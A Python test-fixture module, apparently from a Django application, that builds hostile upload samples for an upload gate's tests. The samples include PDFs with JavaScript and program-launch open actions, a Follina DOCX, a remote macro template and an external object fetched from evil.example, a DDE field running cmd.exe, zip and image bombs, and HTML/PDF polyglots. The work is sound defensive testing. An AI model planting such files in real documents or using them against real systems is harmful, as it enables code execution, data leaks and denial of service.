"""Real and hostile files for upload tests, built in memory (reportlab, pypdf, Pillow, zipfile).

Shared by the upload gate's tests and the tests of every view that takes a file."""

from __future__ import annotations

import io
import os
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from reportlab.pdfgen import canvas

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


# --- PDFs ------------------------------------------------------------------------------------------


def pdf_bytes(pages: int = 1, text: str = "Compte rendu du comité de pilotage") -> bytes:
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer)
    for number in range(pages):
        pdf.drawString(72, 720, f"{text} — page {number + 1}")
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def pictures_pdf_bytes(pages: int, *, picture=(400, 300), quality: int = 70) -> bytes:
    """A PDF of `pages` pages, each with a title and its own photograph-like JPEG (noise, which
    compresses as badly as a photograph): 50 pages weigh about 4 Mo, like a scanned report."""
    from reportlab.lib.utils import ImageReader

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer)
    for number in range(pages):
        photo = io.BytesIO()
        Image.frombytes("RGB", picture, os.urandom(picture[0] * picture[1] * 3)).save(
            photo, "JPEG", quality=quality
        )
        photo.seek(0)
        pdf.drawString(72, 780, f"Visite du centre de santé — photographie {number + 1}")
        pdf.drawImage(ImageReader(photo), 72, 380, 400, 300)
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def encrypted_pdf_bytes() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt("secret")
    return _written(writer)


def _open_action_pdf(action: dict[str, object]) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    entries = {NameObject(key): value for key, value in action.items()}
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(entries))
    return _written(writer)


def javascript_pdf_bytes() -> bytes:
    """A one-page PDF that runs JavaScript when opened (an /OpenAction of type /JavaScript)."""
    return _open_action_pdf(
        {"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert('ouvert');")}
    )


def launch_pdf_bytes() -> bytes:
    """A PDF whose open action launches a program."""
    return _open_action_pdf({"/S": NameObject("/Launch"), "/F": TextStringObject("calc.exe")})


def action_pdf_bytes(action: str) -> bytes:
    """A PDF whose open action is of type `action` (« /SubmitForm », « /GoToR », « /Sound »…)."""
    return _open_action_pdf({"/S": NameObject(action), "/F": TextStringObject("http://evil.example/x")})


def binary_stream_pdf_bytes(data: bytes) -> bytes:
    """A one-page PDF carrying `data` as the raw bytes of a picture (a JPEG stream, never decoded by
    the gate): binary data may hold any byte sequence, « /JS » included."""
    from pypdf.generic import DecodedStreamObject, NumberObject

    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    picture = DecodedStreamObject()
    picture._data = data
    picture.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Image"),
            NameObject("/Width"): NumberObject(1),
            NameObject("/Height"): NumberObject(1),
            NameObject("/Filter"): NameObject("/DCTDecode"),
        }
    )
    page = writer.pages[0]
    resources = page[NameObject("/Resources")].get_object()
    resources[NameObject("/XObject")] = DictionaryObject({NameObject("/Im9"): writer._add_object(picture)})
    return _written(writer)


def embedded_file_pdf_bytes() -> bytes:
    """A PDF carrying a file (an executable) as an attachment."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf_bytes()))
    writer.add_attachment("setup.exe", EXE)
    return _written(writer)


def polyglot_pdf_bytes() -> bytes:
    """Starts as a PDF, goes on as a web page with a script, and still ends with %%EOF."""
    return b"%PDF-1.4\n" + HTML + b"\n" + pdf_bytes()[9:]


def corrupt_pdf_bytes() -> bytes:
    """A PDF cut in its middle."""
    content = pdf_bytes(3)
    return content[: len(content) // 2]


def chained_objects_pdf_bytes(objects: int = 450_000) -> bytes:
    """A one-page PDF whose catalog leads to a chain of `objects` tiny objects (each one pointing to
    the next) packed in one compressed object stream, listed by a compressed cross-reference stream:
    about 4 Mo for 450,000 objects, built in about a second; a parser that follows the chain holds
    every object."""
    import zlib

    first = 10  # objects 1-3: catalog, pages, page; 5: the object stream; 6: the xref stream
    numbers = range(first, first + objects)
    bodies = [f"<</Next {n + 1} 0 R>>".encode() for n in numbers[:-1]] + [b"<<>>"]
    offsets, position = [], 0
    for body in bodies:
        offsets.append(position)
        position += len(body) + 1
    header = " ".join(f"{n} {offset}" for n, offset in zip(numbers, offsets, strict=True)).encode() + b" "
    packed = zlib.compress(header + b" ".join(bodies) + b" ", 1)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    at = {}

    def obj(number: int, body: bytes) -> None:
        at[number] = out.tell()
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")

    obj(1, f"<</Type/Catalog/Pages 2 0 R/Chain {first} 0 R>>".encode())
    obj(2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    obj(3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>")
    obj(
        5,
        f"<</Type/ObjStm/N {objects}/First {len(header)}/Filter/FlateDecode/Length {len(packed)}>>"
        "\nstream\n".encode()
        + packed
        + b"\nendstream",
    )
    size = first + objects
    xref_at = at[6] = out.tell()
    in_file = [
        b"\x01" + at[n].to_bytes(4, "big") + b"\x00\x00\x00" if n in at else b"\x00" * 8 for n in range(first)
    ]
    in_stream = [b"\x02\x00\x00\x00\x05" + index.to_bytes(3, "big") for index in range(objects)]
    table = zlib.compress(b"".join(in_file + in_stream), 1)
    out.write(
        f"6 0 obj\n<</Type/XRef/Size {size}/W[1 4 3]/Root 1 0 R/Filter/FlateDecode/Length {len(table)}>>"
        "\nstream\n".encode()
        + table
        + f"\nendstream\nendobj\nstartxref\n{xref_at}\n%%EOF\n".encode()
    )
    return out.getvalue()


# --- Images ----------------------------------------------------------------------------------------


def image_bytes(fmt: str = "PNG", size=(16, 12), color="teal") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, fmt)
    return buffer.getvalue()


def png_bytes(size=(16, 12), color="teal") -> bytes:
    return image_bytes("PNG", size, color)


def png_with_html_bytes() -> bytes:
    """A real PNG followed, after its IEND chunk, by a web page with a script."""
    return png_bytes() + HTML


def png_bomb_bytes(side: int = 13_000) -> bytes:
    """A side × side black PNG that weighs about 160 KB and decodes to side² pixels (169 million
    for the default side, half a gigabyte once decoded in RGB)."""
    buffer = io.BytesIO()
    Image.new("L", (side, side), 0).save(buffer, "PNG", optimize=True)
    return buffer.getvalue()


# --- Office documents ------------------------------------------------------------------------------

_RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _types(overrides: dict[str, str] | None = None, defaults: dict[str, str] | None = None) -> str:
    """A [Content_Types].xml: rels and xml by default, the main document part, and more."""
    defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        **(defaults or {}),
    }
    overrides = {"/word/document.xml": _DOCX_MAIN, **(overrides or {})}
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + "".join(f'<Default Extension="{ext}" ContentType="{kind}"/>' for ext, kind in defaults.items())
        + "".join(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides.items())
        + "</Types>"
    )


def relationships_xml(*relationships: tuple[str, str, str | None]) -> str:
    """A .rels part from (type, target, target mode) triples; the type is short (« hyperlink »)."""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{_RELS_NS}">'
        + "".join(
            f'<Relationship Id="rId{number}" Type="{_REL_TYPE}{kind}" Target="{target}"'
            + (f' TargetMode="{mode}"' if mode else "")
            + "/>"
            for number, (kind, target, mode) in enumerate(relationships, start=1)
        )
        + "</Relationships>"
    )


def _document(body: str = "<w:p><w:r><w:t>Compte rendu du comité de pilotage</w:t></w:r></w:p>") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{_W_NS}" xmlns:r="{_R_NS}"><w:body>{body}</w:body></w:document>'
    )


def _zip(entries: dict[str, bytes | str], *, stored_first: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            kind = zipfile.ZIP_STORED if name == stored_first else zipfile.ZIP_DEFLATED
            archive.writestr(name, data, compress_type=kind)
    return buffer.getvalue()


def docx_bytes(extra: dict[str, bytes | str] | None = None) -> bytes:
    """A DOCX with Word's structure (content types, package and document relationships, one
    paragraph); `extra` adds or replaces parts."""
    return _zip(
        {
            "[Content_Types].xml": _types(),
            "_rels/.rels": relationships_xml(("officeDocument", "word/document.xml", None)),
            "word/document.xml": _document(),
            "word/_rels/document.xml.rels": relationships_xml(("styles", "styles.xml", None)),
            "word/styles.xml": f'<w:styles xmlns:w="{_W_NS}"/>',
            "docProps/core.xml": (
                '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
                'metadata/core-properties"/>'
            ),
            **(extra or {}),
        }
    )


def docx_with_html_and_macro_bytes() -> bytes:
    """A DOCX-shaped archive that also holds a web page and a VBA macro project."""
    return docx_bytes({"word/page.html": HTML, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 512})


def docx_hyperlink_bytes() -> bytes:
    """An ordinary DOCX with a web link and an e-mail link (external hyperlink relationships)."""
    link = '<w:hyperlink r:id="rId{}"><w:r><w:t>{}</w:t></w:r></w:hyperlink>'
    return docx_bytes(
        {
            "word/document.xml": _document(
                "<w:p>" + link.format(2, "site de l'ARS") + link.format(3, "écrire") + "</w:p>"
            ),
            "word/_rels/document.xml.rels": relationships_xml(
                ("styles", "styles.xml", None),
                ("hyperlink", "https://www.ars.sante.fr/contrats-locaux-de-sante", "External"),
                ("hyperlink", "mailto:cls@example.org", "External"),
            ),
        }
    )


def follina_docx_bytes() -> bytes:
    """CVE-2022-30190 (« Follina »): an external oleObject relationship to an mhtml: address, which
    Word fetches when the document opens and whose page then runs ms-msdt."""
    return docx_bytes(
        {
            "word/_rels/document.xml.rels": relationships_xml(
                ("styles", "styles.xml", None),
                (
                    "oleObject",
                    "mhtml:http://evil.example/payload.html!x-usc:http://evil.example/p.html",
                    "External",
                ),
            )
        }
    )


def remote_template_docx_bytes() -> bytes:
    """A DOCX whose settings attach a macro-enabled template fetched from outside when it opens."""
    return docx_bytes(
        {
            "word/settings.xml": f'<w:settings xmlns:w="{_W_NS}" xmlns:r="{_R_NS}">'
            '<w:attachedTemplate r:id="rId1"/></w:settings>',
            "word/_rels/settings.xml.rels": relationships_xml(
                ("attachedTemplate", "http://evil.example/modele.dotm", "External")
            ),
        }
    )


def altchunk_docx_bytes() -> bytes:
    """A DOCX carrying a web page as an altChunk (word/afchunk.xml declared text/html), which Word
    renders into the document when it opens."""
    return docx_bytes(
        {
            "[Content_Types].xml": _types({"/word/afchunk.xml": "text/html"}),
            "word/document.xml": _document('<w:altChunk r:id="rId2"/>'),
            "word/_rels/document.xml.rels": relationships_xml(
                ("styles", "styles.xml", None), ("aFChunk", "afchunk.xml", None)
            ),
            "word/afchunk.xml": HTML,
        }
    )


def dde_docx_bytes() -> bytes:
    """A DOCX whose field runs a command through DDE when it is updated, its code split over runs."""
    return docx_bytes(
        {
            "word/document.xml": _document(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                "<w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\"
                'system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            )
        }
    )


_ODF = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
    "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
    "xlink": "http://www.w3.org/1999/xlink",
}
_ODF_XMLNS = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in _ODF.items())
_MANIFEST_NS = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"


def odt_content(body: str = "<text:p>Compte rendu du comité de pilotage</text:p>") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODF_XMLNS} office:version="1.3">'
        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
    )


def odt_manifest(*entries: tuple[str, str]) -> str:
    """A META-INF/manifest.xml listing the document and (path, media type) entries."""
    files = [("/", "application/vnd.oasis.opendocument.text"), ("content.xml", "text/xml"), *entries]
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="{_MANIFEST_NS}" '
        'manifest:version="1.3">'
        + "".join(
            f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{kind}"/>'
            for path, kind in files
        )
        + "</manifest:manifest>"
    )


def odt_bytes(extra: dict[str, bytes | str] | None = None) -> bytes:
    return _zip(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "META-INF/manifest.xml": odt_manifest(),
            "content.xml": odt_content(
                '<text:p>Voir <text:a xlink:type="simple" xlink:href="https://www.ars.sante.fr/">'
                "le site de l'ARS</text:a></text:p>"
            ),
            "styles.xml": f'<office:document-styles {_ODF_XMLNS} office:version="1.3"/>',
            **(extra or {}),
        },
        stored_first="mimetype",
    )


def odt_external_object_bytes() -> bytes:
    """An ODT whose frame shows an object loaded from another address when the document opens."""
    return odt_bytes(
        {
            "content.xml": odt_content(
                '<text:p><draw:frame><draw:object xlink:type="simple" xlink:show="embed" '
                'xlink:href="http://evil.example/objet"/></draw:frame></text:p>'
            )
        }
    )


def odt_macro_event_bytes() -> bytes:
    """An ODT binding a Basic macro to an event of the document (no Basic/ folder in it)."""
    return odt_bytes(
        {
            "content.xml": odt_content(
                "<text:p><office:event-listeners><script:event-listener "
                'script:language="ooo:script" script:event-name="dom:load" '
                'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"/>'
                "</office:event-listeners></text:p>"
            )
        }
    )


def odt_html_manifest_bytes() -> bytes:
    """An ODT whose manifest declares a web page among its parts."""
    return odt_bytes(
        {
            "META-INF/manifest.xml": odt_manifest(("Pictures/page.png", "text/html")),
            "Pictures/page.png": HTML,
        }
    )


def odt_bomb_bytes(declared: int = 200 * 1024 * 1024) -> bytes:
    """An ODT whose `mimetype` entry inflates to `declared` bytes of zeros (a zip bomb: about
    200 KB on disk for 200 MB). Written in chunks, so building it costs little memory too."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("mimetype")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as entry:
            entry_chunk = b"\x00" * (1024 * 1024)
            for _ in range(declared // len(entry_chunk)):
                entry.write(entry_chunk)
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def lying_odt_bytes(actual: int = 50 * 1024 * 1024) -> bytes:
    """An ODT whose content.xml is declared as 100 bytes (central directory and local header)
    while its data inflates to `actual` bytes: only counting what is decompressed catches it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        with archive.open("content.xml", "w") as entry:
            for _ in range(actual // (1024 * 1024)):
                entry.write(b" " * (1024 * 1024))
    content = bytearray(buffer.getvalue())
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = content.find(signature)
        while content[start + name_at : start + name_at + 11] != b"content.xml":
            start = content.find(signature, start + 1)
        content[start + size_at : start + size_at + 4] = (100).to_bytes(4, "little")
    return bytes(content)


def xlsx_bytes(rows: int = 3) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Nom", "Prénom", "E-mail"])
    for number in range(rows):
        sheet.append([f"Nom{number}", "Prénom", f"personne{number}@example.org"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _rezipped(content: bytes, changes: dict[str, bytes | str]) -> bytes:
    """The archive `content` with parts added or replaced."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    return _zip({**entries, **changes})


def xlsx_external_link_bytes() -> bytes:
    """A workbook linked to another workbook on a remote share (refreshed when it opens)."""
    content = xlsx_bytes()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        types = archive.read("[Content_Types].xml").decode()
        workbook_rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    link_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    return _rezipped(
        content,
        {
            "[Content_Types].xml": types.replace(
                "</Types>",
                f'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="{link_type}"/>'
                "</Types>",
            ),
            "xl/_rels/workbook.xml.rels": workbook_rels.replace(
                "</Relationships>",
                f'<Relationship Id="rId9" Type="{_REL_TYPE}externalLink" '
                'Target="externalLinks/externalLink1.xml"/></Relationships>',
            ),
            "xl/externalLinks/externalLink1.xml": (
                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships"/></externalLink>'
            ),
            "xl/externalLinks/_rels/externalLink1.xml.rels": relationships_xml(
                ("externalLinkPath", "file:///\\\\evil.example\\partage\\donnees.xlsx", "External")
            ),
        },
    )


def repeated_page_pdf_bytes(references: int = 20) -> bytes:
    """A one-page PDF whose page tree lists that same page `references` times, with a /Count that
    agrees: a reader trusting /Count or walking /Kids naively sees `references` pages."""
    from pypdf.generic import ArrayObject, NameObject, NumberObject

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    pages = writer._root_object["/Pages"].get_object()
    page_ref = pages["/Kids"][0]
    pages[NameObject("/Kids")] = ArrayObject([page_ref] * references)
    pages[NameObject("/Count")] = NumberObject(references)
    return _written(writer)


def lying_count_pdf_bytes(pages: int = 3, count: int = 15) -> bytes:
    """A PDF of `pages` pages whose page tree claims /Count `count`."""
    from pypdf import PdfReader
    from pypdf.generic import NameObject, NumberObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes(pages))))
    writer._root_object["/Pages"].get_object()[NameObject("/Count")] = NumberObject(count)
    return _written(writer)
